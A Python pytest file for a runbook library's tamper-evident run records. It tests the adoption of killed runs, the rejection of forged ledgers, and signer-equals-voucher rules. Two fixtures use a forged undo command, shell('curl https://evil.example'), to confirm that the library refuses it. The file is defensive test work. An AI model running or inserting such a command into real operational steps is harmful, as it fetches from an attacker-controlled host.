"""A run that was killed is adopted only as it was; who vouches in production is who signs."""

from __future__ import annotations

import json
import shutil

import pytest

from runbook_lib.commands.command import frozen, shell, sql
from runbook_lib.errors import ConfigError, RecordError, StepRefused
from runbook_lib.records import history, plan, run_record, signing, verify
from runbook_lib.records.record_folder import Record
from runbook_lib.steps import owed_undos
from tests.core_fixtures import write_notebook
from tests.records.test_ledger import make

PHASE = "phase_0_platform_prep"
CELLS = (
    """phase.act("0.1b", "Change", sql("select 1"), undo=sql("select 2"))""",
    """phase.check("0.1c", "It changed", sql("select 1"))""",
)
UNDO = {"step": "0.1b", "command": frozen(sql("select 2")), "text": "select 2;"}
FORGED = {**UNDO, "command": frozen(shell("curl https://evil.example")), "text": "select 2;"}


@pytest.fixture
def accepted(tmp_path, monkeypatch):
    """A notebook that owes an undo, accepted as the plan of a phase."""
    folder = tmp_path / "notebooks"
    source = write_notebook(folder / f"{PHASE}.ipynb", *CELLS)
    plan.accept(source)
    monkeypatch.setattr(plan, "NOTEBOOKS", folder)
    return source


def killed(settings, source, root, undo=UNDO):
    """A record that ends where its run was killed: an act has passed, and its undo is owed."""
    record = run_record.begin(settings, PHASE, root=root, source=source)
    record.notebook.write_bytes(source.read_bytes())
    record.ledger.append("owed", **undo)
    record.ledger.append("sending", step="0.1b", verb="act", title="Change", commands=["select 1;"])
    record.ledger.append("outcome", step="0.1b", verb="act", title="Change", outcome="passed", replies=[])
    return record


def rewritten(record, old, new):
    """The ledger with some text of it changed, and a sound chain of hashes."""
    last, lines = "", []
    for line in record.ledger.path.read_text().splitlines():
        event = json.loads(line.replace(old, new))
        del event["hash"]
        made, last = verify.written(event, last)
        lines.append(made)
    record.ledger.path.write_bytes(b"".join(lines))
    return Record(record.folder)


def test_a_killed_run_is_sealed_as_interrupted_with_the_operators_key_and_gone_on_from(production, accepted, tmp_path):
    record = killed(production, accepted, tmp_path / "records")
    with pytest.raises(RecordError, match="nothing can rest on"):
        run_record.begin(production, PHASE, root=tmp_path / "records", parent=record)

    run_record.refuse_unadoptable(record, production)
    owed_undos.refuse_unregistered(production, record)
    seal = run_record.finish(record, ended="interrupted: adopted")

    assert (seal["outcome"], seal["owed"], seal["operator"]) == ("interrupted", ["0.1b"], "ada")
    assert verify.verify(record.folder, signing.signers(production)) == []
    child = run_record.begin(production, PHASE, root=tmp_path / "records", parent=record)
    assert [*history.read(child).owed()] == ["0.1b"]


def test_a_last_line_that_was_torn_is_cut_off_before_a_run_is_adopted(production, accepted, tmp_path):
    record = killed(production, accepted, tmp_path / "records")
    with record.ledger.path.open("ab") as file:
        file.write(b'{"n":5,"at":"2026-')
    run_record.refuse_unadoptable(record, production)
    assert run_record.finish(Record(record.folder), ended="interrupted: adopted")["outcome"] == "interrupted"


@pytest.mark.parametrize(
    "forgery",
    [
        ('"operator":"ada"', '"operator":"bob"', "it is bob's, and you are ada"),
        ('"profile":"production"', '"profile":"productions"', "it is of profile productions"),
        ('"It changed"', '"It is so"', "did not follow the plan of"),
        ('"n":3', '"n":4', "line 3"),
        ('"title":"Change"', '"title":"Change","at":"2020-01-01T00:00:00.000000Z"', "line 3: its time"),
    ],
)
def test_a_forged_run_is_not_adopted_though_its_chain_is_sound(production, accepted, tmp_path, forgery):
    old, new, why = forgery
    record = rewritten(killed(production, accepted, tmp_path / "records"), old, new)
    with pytest.raises(RecordError, match=f"cannot be adopted: .*{why}"):
        run_record.refuse_unadoptable(record, production)


def test_an_edited_run_is_not_adopted(production, accepted, tmp_path):
    record = killed(production, accepted, tmp_path / "records")
    record.ledger.path.write_bytes(record.ledger.path.read_bytes().replace(b'"title":"Change"', b'"title":"Chance"'))
    with pytest.raises(RecordError, match="cannot be adopted: line 3: the line, or one before it, was changed"):
        run_record.refuse_unadoptable(Record(record.folder), production)


def test_a_run_that_owes_what_its_notebook_does_not_register_is_not_adopted(production, accepted, tmp_path):
    record = killed(production, accepted, tmp_path / "records", FORGED)
    with pytest.raises(StepRefused, match=r"0\.1b registers another undo than this one"):
        owed_undos.refuse_unregistered(production, record)


def test_a_run_whose_notebook_was_changed_since_is_not_adopted_with_its_undo(production, accepted, tmp_path):
    """The cell that registers the undo is believed as it was planned, and in no other form."""
    record = killed(production, accepted, tmp_path / "records", FORGED)
    cell = CELLS[0].replace('sql("select 2")', 'shell("curl https://evil.example")')
    shutil.copy(write_notebook(tmp_path / "forged.ipynb", cell, CELLS[1]), record.notebook)
    with pytest.raises(StepRefused, match=r"no cell of its notebook that was planned registers an undo of 0\.1b"):
        owed_undos.refuse_unregistered(production, record)


def waiting(settings, source, root):
    record = run_record.begin(settings, PHASE, root=root, source=source)
    record.notebook.write_bytes(source.read_bytes())
    facts = {"step": "0.1b", "verb": "confirm", "title": "A backup exists"}
    event = record.ledger.append("outcome", **facts, outcome="waiting", replies=[])
    run_record.finish(record)
    return record, event


def test_nobody_vouches_in_the_name_of_another(production, accepted, tmp_path):
    record, event = waiting(production, accepted, tmp_path / "records")
    with pytest.raises(ConfigError, match="who vouches is who signs, and that is 'ada' here, not 'bob'"):
        run_record.vouch(production, record, event, "bob")
    answer = run_record.vouch(production, record, event, "ada")
    assert verify.verify(answer.folder, signing.signers(production)) == []


def test_a_record_in_which_somebody_else_vouched_than_who_signs_does_not_verify(production, accepted, tmp_path):
    """However it was written: bob's own program may say what ada did, and bob's key sign it."""
    record, event = waiting(production, accepted, tmp_path / "records")
    answer = run_record.begin(production, PHASE, root=record.root, parent=record, mode="confirm", by="bob")
    answer.ledger.append("vouched", step="0.1b", statement=event["title"], by="bob")
    run_record.finish(answer)
    assert any("0.1b was vouched for by bob, and ada signs" in problem for problem in verify.verify(answer.folder))


def test_in_a_rehearsal_anybody_may_vouch(chosen, accepted, tmp_path):
    record, event = waiting(chosen, accepted, tmp_path / "records")
    answer = run_record.vouch(chosen, record, event, "Ada")
    assert verify.verify(answer.folder) == []


def test_records_of_one_second_have_names_of_their_own(tmp_path):
    assert len({make(tmp_path).folder for _ in range(5)}) == 5


def test_a_folder_that_takes_no_record_is_a_record_error(tmp_path):
    (tmp_path / "rehearsal").write_text("in the way")
    with pytest.raises(RecordError, match="cannot make the record"):
        make(tmp_path)
